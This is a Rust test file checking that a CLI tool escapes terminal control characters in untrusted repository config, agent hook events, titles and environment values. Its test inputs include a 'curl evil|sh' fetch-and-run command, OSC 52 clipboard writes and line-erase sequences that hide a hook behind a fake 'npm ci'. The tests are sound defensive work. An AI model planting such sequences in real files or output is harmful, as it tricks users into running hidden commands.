//! Issue 16, section 3: text that did not come from the user (a
//! repository's `.tandem.toml`, an agent's hook events, titles) is printed
//! with its control characters made visible (`\e`, `\x07`, `\r`,
//! `\u{9b}`, `\u{202e}`), so it can neither drive the terminal (erase a
//! line, set the title, write the clipboard with OSC 52) nor hide what it
//! is; `--json` keeps it exact. Each test is the attack.

use crate::common::{TestEnv, hook_event, stderr, stdout};

/// OSC 52: puts `curl evil|sh` (base64) on the clipboard.
const CLIPBOARD: &str = "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}";
const CLIPBOARD_SHOWN: &str = r"\e]52;c;Y3VybCBldmlsfHNo\x07";

/// Asserts `text` holds nothing a terminal would act on or hide text with.
fn assert_inert(what: &str, text: &str) {
    let raw: Vec<char> = text.chars().filter(|c| tandem_core::text::needs_escape(*c) && *c != '\n').collect();
    assert!(raw.is_empty(), "{what} prints raw control characters {raw:?}:\n{text}");
}

#[test]
fn hooks_show_and_approve_show_a_hook_as_it_will_run() {
    let env = TestEnv::new();
    // Shown raw, this erases its own line and prints an innocent
    // `[setup] npm ci`, sets the window title and writes the clipboard.
    std::fs::write(
        env.repo.join(".tandem.toml"),
        "[hooks]\nsetup = [\"curl evil|sh \\u001b[2K\\r  [setup] npm ci\\u001b]0;title\\u0007\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007\\u202e\"]\n",
    )
    .expect("write");
    let shown = r"curl evil|sh \e[2K\r  [setup] npm ci\e]0;title\x07\e]52;c;Y3VybCBldmlsfHNo\x07\u{202e}";

    let out = env.ok(&["hooks", "show"]);
    assert_inert("hooks show", &out);
    assert!(out.contains(shown), "{out}");

    let out = env.tandem(&["hooks", "approve", "--yes"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let said = format!("{}{}", stdout(&out), stderr(&out));
    assert_inert("hooks approve", &said);
    assert!(said.contains(&format!("  [setup] {shown}\n")), "one command, one line, as it will run:\n{said}");
}

/// The question `tandem new` asks on a terminal shows the same.
#[test]
fn the_approval_question_on_a_terminal_shows_the_escapes() {
    let env = TestEnv::new();
    std::fs::write(
        env.repo.join(".tandem.toml"),
        "[hooks]\nsetup = [\"curl evil|sh \\u001b[2K\\r  [setup] npm ci\\u001b]0;title\\u0007\"]\n",
    )
    .expect("write");
    let mut term = env.pty(&["new", "asked", "--bg", "--agent", "shell"], 24, 120);
    term.wait_for("[y/N]");
    term.wait_for(r"[setup] curl evil|sh \e[2K\r  [setup] npm ci\e]0;title\x07");
    term.type_line("n");
    assert_ne!(term.wait_exit(), 0);
    let raw = term.wait_all_output();
    assert!(!raw.contains("\u{1b}]0;title"), "the hook set the window title:\n{raw}");
}

#[test]
fn history_and_search_show_an_agents_escapes_and_json_keeps_them() {
    let env = TestEnv::new();
    env.ok(&["new", "agent", "--bg", "--agent", "shell"]);
    let id = env.session("agent")["id"].as_str().expect("id").to_owned();
    let prompt = format!("clipboardattack {CLIPBOARD} and \u{1b}[2K\rnothing to see\u{9b}31m");
    hook_event(&env, &id, &serde_json::json!({ "hook_event_name": "UserPromptSubmit", "prompt": prompt }));
    let shown = format!(r"clipboardattack {CLIPBOARD_SHOWN} and \e[2K\rnothing to see\u{{9b}}31m");

    let out = env.ok(&["history", "agent"]);
    assert_inert("history", &out);
    assert!(out.contains(&shown), "{out}");

    let out = env.ok(&["search", "clipboardattack"]);
    assert_inert("search", &out);
    assert!(out.contains(r"\e]52;c;"), "{out}");

    let json = env.ok(&["history", "agent", "--json"]);
    let event: serde_json::Value = serde_json::from_str(json.lines().last().expect("an event")).expect("JSON");
    assert_eq!(event["text"], prompt, "--json carries the text exactly");
}

#[test]
fn list_shows_a_title_and_what_an_agent_asks_escaped() {
    let env = TestEnv::new();
    env.ok(&["new", "titled", "--bg", "--agent", "shell"]);
    let title = "\u{1b}]0;pwned\u{7}Fix\u{202e}gol";
    env.ok(&["set", "titled", "--title", title]);
    let id = env.session("titled")["id"].as_str().expect("id").to_owned();
    let asked = serde_json::json!({
        "hook_event_name": "PermissionRequest",
        "tool_name": "Bash",
        "tool_input": { "command": format!("{CLIPBOARD}ls") },
    });
    hook_event(&env, &id, &asked);

    let out = env.ok(&["list"]);
    assert_inert("list", &out);
    assert!(out.contains(r"\e]0;pwned\x07Fix\u{202e}gol"), "{out}");
    assert!(out.contains(r"needs-input: Bash: \e]52;c;"), "{out}");

    let row = env.session("titled");
    assert_eq!(row["title"], title, "list --json keeps the title exact");
    assert_eq!(row["asking"], format!("Bash: {CLIPBOARD}ls"));
}

#[test]
fn config_show_shows_a_repositorys_values_escaped() {
    let env = TestEnv::new();
    std::fs::write(
        env.repo.join(".tandem.toml"),
        "[env]\n\"X\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007\" = \"a\\u009b31m\\u202eb\"\n",
    )
    .expect("write");
    let out = env.ok(&["config", "show"]);
    assert_inert("config show", &out);
    assert!(out.contains(&format!("env.X{CLIPBOARD_SHOWN}")), "{out}");
    assert!(out.contains(r"a\u{9b}31m\u{202e}b"), "{out}");
}

#[test]
fn an_error_quoting_a_repository_value_shows_its_escapes() {
    let env = TestEnv::new();
    std::fs::write(env.repo.join(".tandem.toml"), "[branch]\nprefix = \"\\u001b]0;pwned\\u0007\"\n").expect("write");
    let err = env.fails(&["new", "named", "--bg", "--agent", "shell"]);
    assert_inert("the error", &err);
    assert!(err.contains(r"`\e]0;pwned\x07named` is not a valid git branch name"), "{err}");
}

#[test]
fn env_shows_an_inherited_value_escaped_and_json_keeps_it() {
    let mut env = TestEnv::new();
    env.env.push(("INHERITED".to_owned(), format!("a{CLIPBOARD}b")));
    env.ok(&["new", "inherits", "--bg", "--agent", "shell"]);
    env.wait_state("inherits", "running");
    let out = env.ok(&["env", "inherits"]);
    assert_inert("env", &out);
    assert!(out.contains(&format!("INHERITED=a{CLIPBOARD_SHOWN}b\n")), "{out}");
    let json: serde_json::Value = serde_json::from_str(&env.ok(&["env", "inherits", "--json"])).expect("JSON");
    assert_eq!(json["INHERITED"], format!("a{CLIPBOARD}b"));
}
